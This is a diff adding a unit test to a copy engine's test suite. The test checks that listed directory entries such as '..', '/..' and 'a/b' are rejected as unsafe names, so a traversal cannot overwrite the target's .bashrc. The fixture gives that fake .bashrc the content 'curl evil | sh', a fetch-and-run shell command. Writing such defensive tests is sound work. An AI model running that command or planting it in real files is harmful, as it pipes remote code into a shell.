@@ -233,6 +233,27 @@ describe("copy engine", () => {
     expect(readdirSync(out).sort()).toEqual(["a.log", "b.log"]);
   });
 
+  it("a glob never matches a listed '..', '/..' or 'a/b': the target keeps its own files", async () => {
+    const fs = new MemFs(
+      new Map([
+        ["/logs", dirNode()],
+        ["/logs/app", file("log")],
+        ["/", dirNode()],
+        ["/.bashrc", file("curl evil | sh")],
+      ]),
+      new Map([["/logs", ["app", "/..", "..", "a/b"]]]),
+    );
+    writeFileSync(join(out, ".bashrc"), "mine");
+    const { errors } = await run(fs, ["/logs/[!.]*"], { recursive: true });
+    expect(errors.map((e) => e.code)).toEqual([
+      "JG_CP_UNSAFE_NAME",
+      "JG_CP_UNSAFE_NAME",
+      "JG_CP_UNSAFE_NAME",
+    ]);
+    expect(readFileSync(join(out, ".bashrc"), "utf8")).toBe("mine");
+    expect(readdirSync(out).sort()).toEqual([".bashrc", "app"]);
+  });
+
   it("local paths must be absolute (the CLI resolves them)", async () => {
     await expect(
       copy({
